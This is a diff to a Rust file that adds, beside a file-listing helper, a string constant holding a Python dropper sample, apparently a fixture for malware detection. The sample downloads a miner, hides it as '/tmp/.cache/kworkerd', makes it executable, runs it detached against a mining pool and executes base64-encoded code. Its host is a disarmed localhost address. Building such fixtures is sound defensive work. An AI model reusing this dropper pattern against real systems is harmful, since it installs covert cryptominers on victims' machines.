@@ -170,3 +170,20 @@ pub fn files_in(dir: &Path, keep: impl Fn(&str) -> bool) -> Vec<String> {
 pub fn spooled_files(dir: &Path) -> Vec<String> {
     files_in(dir, |n| n.ends_with(".json"))
 }
+
+/// A defanged dropper: download, chmod, execute (never run against anything real: the URL is
+/// a closed port on 127.0.0.1).
+pub const DROPPER: &str = r#"import os, stat, subprocess, urllib.request
+URL = "http://127.0.0.1:9/xmrig"
+path = "/tmp/.cache/kworkerd"
+os.makedirs(os.path.dirname(path), exist_ok=True)
+try:
+    data = urllib.request.urlopen(URL, timeout=1).read()
+    open(path, "wb").write(data)
+    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
+    subprocess.Popen([path, "-o", "stratum+tcp://127.0.0.1:3333", "-u", "wallet", "--donate-level", "0"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+except Exception:
+    pass
+import base64
+exec(base64.b64decode("cHJpbnQoJ2hpJyk="))
+"#;
